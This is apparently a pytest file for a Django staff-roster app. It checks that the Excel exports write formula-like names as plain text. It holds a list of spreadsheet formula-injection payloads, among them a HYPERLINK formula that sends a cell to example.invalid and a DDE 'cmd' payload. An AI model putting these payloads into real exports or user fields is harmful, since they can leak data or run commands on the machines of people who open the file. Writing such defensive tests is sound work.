"""Exports are formula-safe: text a spreadsheet could evaluate comes back as plain text."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from laget.core.xlsx import make_formula_safe, workbook_bytes
from laget.people.models import Employment

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&B3,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_every_text_cell_that_could_be_a_formula_is_written_as_text_and_numbers_stay():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*HOSTILE, -5, 2.5, "Kari", "100 %"])
    assert make_formula_safe(workbook) == len(HOSTILE)
    cells = next(load_workbook(io.BytesIO(workbook_bytes(workbook))).active.iter_rows())
    assert [c.value for c in cells[: len(HOSTILE)]] == HOSTILE
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[: len(HOSTILE)])
    assert [c.value for c in cells[len(HOSTILE) :]] == [-5, 2.5, "Kari", "100 %"]
    assert cells[len(HOSTILE)].data_type == "n"


@pytest.fixture
def formula_roster(world):
    employments = list(Employment.objects.filter(service=world.service_a).select_related("person"))
    for employment, text in zip(employments, HOSTILE[:6], strict=False):
        employment.person.given_name = text
        employment.person.family_name = text
        employment.person.save()
        employment.position_title = text
        employment.save()
    return world


def _export(client, world, name: str) -> bytes:
    client.force_login(world.user("leader"))
    response = client.get(reverse(name, kwargs={"pk": world.service_a.pk}))
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["roster:export", "supervision:export"])
def test_the_staff_and_supervision_exports_write_formula_names_as_text(
    client, formula_roster, name
):
    workbook = load_workbook(io.BytesIO(_export(client, formula_roster, name)))
    texts = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]
    assert texts, "the hostile names should be in the export"
    assert all(cell.data_type == "s" for cell in texts)
    assert {"=1+1", "=cmd|' /C calc'!A0"} <= {cell.value for cell in texts}


@pytest.mark.django_db
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is installed by make test")
def test_libreoffice_opens_the_roster_export_with_the_formulas_as_plain_text(
    client, formula_roster, tmp_path
):
    path = tmp_path / "ansatte.xlsx"
    path.write_bytes(_export(client, formula_roster, "roster:export"))
    result = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):59,34,76,1",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "ansatte.csv").exists(), (result.stdout, result.stderr)
    rows = list(csv.reader(io.StringIO((tmp_path / "ansatte.csv").read_text()), delimiter=";"))
    cells = {cell for row in rows for cell in row}
    for text in ("=1+1", "=cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A2)", "+1+1"):
        assert text in cells, (text, rows[:3])
    assert "2" not in {row[1] for row in rows[1:]}  # =1+1 was not evaluated to 2
